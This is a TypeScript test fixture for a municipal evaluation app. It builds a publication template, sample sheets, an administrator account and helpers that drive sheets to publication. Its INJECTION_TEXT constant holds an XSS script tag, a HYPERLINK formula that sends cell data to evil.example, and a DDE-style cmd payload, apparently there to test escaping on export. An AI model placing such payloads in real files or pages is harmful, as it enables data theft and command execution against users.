import { workflowTypes, type WorkflowOf } from '@hyoka/workflows/workflow-types';
import {
  parseTemplate,
  validateForSubmit,
  type SheetContent,
  type TemplateDefinition,
} from '@hyoka/domain';
import { approveUpdate, submitUpdate } from '@hyoka/workflows/sheet/messages';
import { workflowIds } from '@hyoka/workflows/ids';
import type { CycleProgress } from '@hyoka/workflows/cycle/messages';
import { appendSheetVersion, freezePublication } from '@hyoka/persistence';
import type { DataSource } from 'typeorm';
import { setPassword } from '../api/helpers';
import {
  TEST_CYCLE_RECOUNT_MS,
  createCycleFixture,
  eventually,
  type CycleFixture,
} from './cycle-fixture';
import type { TestSystem } from './system';

/**
 * A layout with every kind of published value (text, a section reference, indicators with
 * achievement and trend, a cost table with computed totals, a direction) and one internal block
 * whose text must never be published.
 */
export const PUBLICATION_TEST_TEMPLATE: TemplateDefinition = (() => {
  const parsed = parseTemplate({
    schemaVersion: 1,
    key: 'test/publication-sheet',
    version: 1,
    title: { ja: '公表試験シート', en: 'Publication test sheet' },
    blocks: [
      {
        key: 'identity',
        title: { ja: '事業の概要', en: 'Overview' },
        editableAt: ['self_evaluation'],
        visibility: 'public',
        fields: [
          {
            key: 'section',
            type: 'reference',
            target: 'section',
            label: { ja: '担当課', en: 'Section' },
          },
          {
            key: 'summary',
            type: 'long_text',
            label: { ja: '総括', en: 'Summary' },
            required: true,
          },
          {
            key: 'contact',
            type: 'text',
            label: { ja: '連絡先（内線）', en: 'Contact (extension)' },
            visibility: 'internal',
          },
        ],
      },
      {
        key: 'indicators',
        title: { ja: '指標', en: 'Indicators' },
        editableAt: ['self_evaluation'],
        visibility: 'public',
        fields: [
          {
            key: 'table',
            type: 'indicator_table',
            label: { ja: '活動・成果指標', en: 'Activity and outcome indicators' },
            kinds: ['activity', 'outcome'],
            rows: { mode: 'evaluator' },
            columns: [
              { offset: -1, valueKind: 'target' },
              { offset: -1, valueKind: 'actual' },
              { offset: 0, valueKind: 'target' },
            ],
          },
        ],
      },
      {
        key: 'cost',
        title: { ja: 'コスト', en: 'Cost' },
        editableAt: ['self_evaluation'],
        visibility: 'public',
        fields: [
          {
            key: 'table',
            type: 'cost_table',
            label: { ja: '事業費と人件費', en: 'Project and labour cost' },
            moneyUnit: 'thousand_yen',
            columns: [
              { offset: -1, valueKind: 'settled' },
              { offset: 0, valueKind: 'budget' },
            ],
            fundingSources: [
              { id: 'national', label: { ja: '国庫支出金', en: 'National subsidy' } },
              { id: 'general', label: { ja: '一般財源', en: 'General revenue' } },
            ],
            staffCount: true,
            hours: true,
            laborCost: { mode: 'computed', rounding: 'half_up', defaultUnitCostYen: 3000 },
          },
        ],
      },
      {
        key: 'decision',
        title: { ja: '今後の方向性', en: 'Direction' },
        editableAt: ['self_evaluation'],
        visibility: 'public',
        fields: [
          {
            key: 'direction',
            type: 'multiple_choice',
            label: { ja: '方向性', en: 'Direction' },
            options: [
              { id: 'keep', label: { ja: '現状維持', en: 'Keep as is' } },
              { id: 'improve', label: { ja: 'やり方改善', en: 'Improve' } },
              { id: 'abolish', label: { ja: '廃止', en: 'Abolish' }, exclusive: true },
            ],
          },
        ],
      },
      {
        key: 'internal',
        title: { ja: '内部メモ', en: 'Internal memo' },
        editableAt: ['self_evaluation', 'section_chief', 'planning_office'],
        visibility: 'internal',
        fields: [{ key: 'memo', type: 'long_text', label: { ja: 'メモ', en: 'Memo' } }],
      },
    ],
  });
  if (!parsed.ok) throw new Error(`publication test template: ${JSON.stringify(parsed.errors)}`);
  return parsed.template;
})();

export const INTERNAL_SECRET = '内部限り：庁内調整中の非公開メモ';
/** A two-line answer with a lone CR too, and no comma or quote (so nothing else forces quoting). */
export const MULTILINE_TEXT =
  '講座を12回開催した。\n参加者の満足度は目標を上回った。\r次年度も継続する。';
/** An internal field of a public block (like the management sheet's 内線). */
export const INTERNAL_CONTACT = 'naisen-4321@internal.example';
export const INJECTION_TEXT =
  '<script>alert("x")</script>\n=HYPERLINK("http://evil.example/?q="&A1,"click")\n+cmd|\' /C calc\'!A0';

/** Content of sheet `i` (FY = cycle year): totals are easy to check by hand. */
export function publicationContent(i: number, sectionId: string, fiscalYear: number): SheetContent {
  const last = String(fiscalYear - 1);
  const now = String(fiscalYear);
  return {
    identity: {
      section: sectionId,
      summary:
        i === 0 ? INJECTION_TEXT : i === 2 ? MULTILINE_TEXT : `事業${i + 1}は計画どおり進んだ。`,
      contact: INTERNAL_CONTACT,
    },
    indicators: {
      table: {
        rows: [
          {
            id: 'a1',
            kind: 'activity',
            name: '講座の開催回数',
            unit: '回',
            betterDirection: 'higher',
            values: { [last]: { target: '10', actual: String(12 + i) }, [now]: { target: '12' } },
          },
          {
            id: 'o1',
            kind: 'outcome',
            name: '参加者の満足度',
            unit: '%',
            betterDirection: 'higher',
            values: {
              [last]: { target: '80', actual: i === 1 ? '75.5' : '85.5' },
              [now]: { target: '85' },
            },
          },
        ],
      },
    },
    cost: {
      table: {
        national: { [last]: { settled: 1200 + i }, [now]: { budget: 1300 } },
        general: { [last]: { settled: 3400 }, [now]: { budget: 3500 } },
        staff_count: { [last]: { settled: '0.5' } },
        hours: { [last]: { settled: '800' } },
      },
    },
    decision: { direction: [i === 1 ? 'keep' : 'improve'] },
    internal: { memo: INTERNAL_SECRET },
  };
}

/** トータルコスト of sheet i's evaluated year in 千円: (1200 + i) + 3400 + 800 h × 3000 円 / 1000. */
export const expectedTotalCost = (i: number): number => 1200 + i + 3400 + 2400;

export interface PublicationFixture extends CycleFixture {
  readonly adminId: string;
  readonly template: TemplateDefinition;
}

/** A cycle fixture on the publication test template, with an administrator (password set). */
export async function createPublicationFixture(
  ds: DataSource,
  sheets: number,
): Promise<PublicationFixture> {
  const f = await createCycleFixture(ds, { sheets });
  await ds.query(
    `UPDATE template SET definition = $2, key = $3 WHERE id = (SELECT template_id FROM cycle WHERE id = $1)`,
    [f.cycleId, JSON.stringify(PUBLICATION_TEST_TEMPLATE), PUBLICATION_TEST_TEMPLATE.key],
  );
  for (const [i, s] of f.sheets.entries()) {
    const content = publicationContent(i, f.sectionId, f.fiscalYear);
    const check = validateForSubmit(PUBLICATION_TEST_TEMPLATE, content, {
      fiscalYear: f.fiscalYear,
      stage: 'self_evaluation',
    });
    if (!check.ok) throw new Error(`fixture content invalid: ${JSON.stringify(check.errors)}`);
    await ds.query(`UPDATE sheet SET content = $2 WHERE id = $1`, [
      s.sheetId,
      JSON.stringify(content),
    ]);
  }
  const rows = await ds.query<{ id: string }[]>(
    `INSERT INTO app_user (government_id, email, display_name) VALUES ($1, $2, '管理 五郎') RETURNING id`,
    [f.governmentId, `admin@${f.governmentCode}.example`],
  );
  const adminId = rows[0]!.id;
  await ds.query(
    `INSERT INTO user_role (government_id, user_id, role, scope_kind, scope_id) VALUES ($1, $2, 'administrator', 'government', $1)`,
    [f.governmentId, adminId],
  );
  await setPassword(ds, adminId);
  return { ...f, adminId, template: PUBLICATION_TEST_TEMPLATE };
}

/** Runs the fixture's cycle to the end: everyone approves, the cycle publishes and closes. */
export async function runCycleToPublication(
  system: TestSystem,
  f: CycleFixture,
): Promise<CycleProgress> {
  const cycle = await system.temporal.workflow.start<WorkflowOf<'cycle'>>(workflowTypes.cycle, {
    taskQueue: system.taskQueue,
    workflowId: workflowIds.cycle(f.governmentCode, f.fiscalYear),
    args: [{ cycleId: f.cycleId, calendar: f.calendar, recountEveryMs: TEST_CYCLE_RECOUNT_MS }],
  });
  const handles = f.sheets.map((s) =>
    system.temporal.workflow.getHandle(
      workflowIds.sheet(f.governmentCode, f.fiscalYear, s.projectCode),
    ),
  );
  await eventually(async () => {
    const rows = await system.db.dataSource.query<{ n: number }[]>(
      `SELECT count(*)::int AS n FROM task WHERE cycle_id = $1 AND status = 'open'`,
      [f.cycleId],
    );
    return rows[0]?.n === f.sheets.length ? true : undefined;
  });
  for (const [stage, userId, update] of [
    ['self_evaluation', f.evaluatorId, submitUpdate],
    ['section_chief', f.chiefId, approveUpdate],
    ['planning_office', f.plannerId, approveUpdate],
  ] as const)
    await Promise.all(
      handles.map((h) =>
        h.executeUpdate(update, { args: [{ actor: { userId }, expect: { stage, round: 1 } }] }),
      ),
    );
  return await cycle.result();
}

/** A sheet published straight in the database, as a test's given. */
export interface DirectlyPublished {
  readonly projectCode: string;
  readonly projectName: string;
  readonly publishedSheetId: string;
}

/**
 * Publishes one sheet as the publish activity does it (the final version and its frozen
 * projection, in one transaction), without running the cycle; `label` names the caller in the
 * transition key. Answers the frozen publication.
 */
export async function publishOneDirectly(
  ds: DataSource,
  sheet: { readonly sheetId: string },
  label: string,
): Promise<{ readonly id: string; readonly projectName: string }> {
  return ds.transaction(async (m) => {
    const rows = await m.query<{ content: unknown }[]>(
      `SELECT content FROM sheet WHERE id = $1 FOR UPDATE`,
      [sheet.sheetId],
    );
    const version = await appendSheetVersion(m, {
      sheetId: sheet.sheetId,
      content: rows[0]?.content ?? {},
      authorId: null,
      stage: 'publication',
      round: 1,
      action: 'publish',
      transitionKey: `${label}/${sheet.sheetId}/publish`,
    });
    const frozen = await freezePublication(m, { sheetVersionId: version.id });
    await m.query(
      `UPDATE sheet SET status = 'published', current_stage = 'publication' WHERE id = $1`,
      [sheet.sheetId],
    );
    return frozen;
  });
}

/** Publishes every sheet of a fixture, one after another (see `publishOneDirectly`). */
export async function publishDirectly(
  ds: DataSource,
  sheets: readonly { readonly sheetId: string; readonly projectCode: string }[],
  label: string,
): Promise<DirectlyPublished[]> {
  const published: DirectlyPublished[] = [];
  for (const s of sheets) {
    const frozen = await publishOneDirectly(ds, s, label);
    published.push({
      projectCode: s.projectCode,
      projectName: frozen.projectName,
      publishedSheetId: frozen.id,
    });
  }
  return published;
}
